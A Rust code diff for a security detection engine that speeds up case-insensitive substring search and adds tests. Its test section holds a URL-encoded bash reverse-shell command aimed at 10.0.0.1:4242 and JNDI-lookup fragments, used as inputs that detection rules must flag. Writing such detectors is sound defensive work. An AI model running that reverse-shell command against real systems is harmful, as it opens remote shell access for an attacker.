@@ -256,11 +256,13 @@ fn literal_span(rule: &Rule, text: &[u8]) -> Option<(usize, usize)> {
     })
 }
 
+/// ASCII case-insensitive substring search: memchr's memmem for the needle's first byte in
+/// both cases, each candidate compared whole (linear on the long records of joined messages).
 fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Option<usize> {
-    if needle.is_empty() || needle.len() > hay.len() {
-        return None;
-    }
-    hay.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle))
+    let (&first, rest) = needle.split_first()?;
+    let (lo, up) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
+    memchr::memchr2_iter(lo, up, hay)
+        .find(|&p| hay.get(p + 1..p + needle.len()).is_some_and(|w| w.eq_ignore_ascii_case(rest)))
 }
 
 fn join_errors(errs: Vec<rules::RuleError>) -> anyhow::Error {
@@ -287,6 +289,15 @@ mod tests {
         assert!(ids(&e, "GET /x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261")
             .contains(&"shell.reverse.dev-tcp".to_string()));
         assert!(ids(&e, "plain text without anything").is_empty());
+    }
+
+    #[test]
+    fn case_insensitive_search() {
+        assert_eq!(find_ascii_ci(b"xx JnDi: y", b"jndi:"), Some(3));
+        assert_eq!(find_ascii_ci(b"jnd", b"jndi"), None);
+        assert_eq!(find_ascii_ci(b"", b"a"), None);
+        assert_eq!(find_ascii_ci(b"abc", b""), None);
+        assert_eq!(find_ascii_ci(b"%24%7b", b"%7B"), Some(3));
     }
 
     #[test]
